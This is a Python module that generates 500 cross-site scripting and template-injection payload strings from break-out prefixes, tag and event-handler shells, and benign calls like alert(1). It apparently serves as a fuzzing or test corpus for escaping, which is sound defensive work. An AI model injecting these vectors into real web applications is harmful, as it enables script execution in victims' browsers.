"""Five hundred strings that become executable where somebody forgets to escape."""

from __future__ import annotations

from itertools import islice
from itertools import product

_CALLS = ("alert(1)", "window.__forged=1", "document.title='forged'", "fetch('//x')")
_SHELLS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</style><script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<body onload={}>",
    "<a href='javascript:{}'>x</a>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<math><mi xlink:href='javascript:{}'>x</mi></math>",
    "<template><script>{}</script></template>",
    "<style>@import 'javascript:{}';</style>",
    "<base href='javascript:{}//'>",
    "<meta http-equiv=refresh content='0;javascript:{}'>",
    "<object data='javascript:{}'></object>",
    "<form action='javascript:{}'><button>x</button></form>",
    "{{{{ ''.__class__ }}}}{{% set x = 1 %}}{}",
    "${{{}}}`{}`",
    "<!--<script>{}//--></script>",
    "<![CDATA[<script>{}</script>]]>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "\\u003cscript\\u003e{}",
)
_WRAPS = ("{}", '">{}', "'>{}", "</title>{}", "--> {}", "{}\u2028", "\x00{}", " ]]>{}")


def injections(number: int = 500) -> list[str]:
    """Return that many different payloads."""
    made = (wrap.format(shell.format(call, call)) for wrap, call, shell in product(_WRAPS, _CALLS, _SHELLS))
    found = list(islice(dict.fromkeys(made), number))
    assert len(found) == number
    return found
